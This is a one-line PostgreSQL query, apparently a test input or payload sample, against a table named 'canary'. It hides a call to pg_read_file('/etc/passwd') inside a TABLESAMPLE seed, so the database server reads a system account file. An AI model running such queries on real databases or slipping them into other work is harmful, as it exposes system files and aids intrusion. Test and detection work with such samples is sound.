SELECT * FROM canary TABLESAMPLE system (1) REPEATABLE (length(pg_read_file('/etc/passwd')))
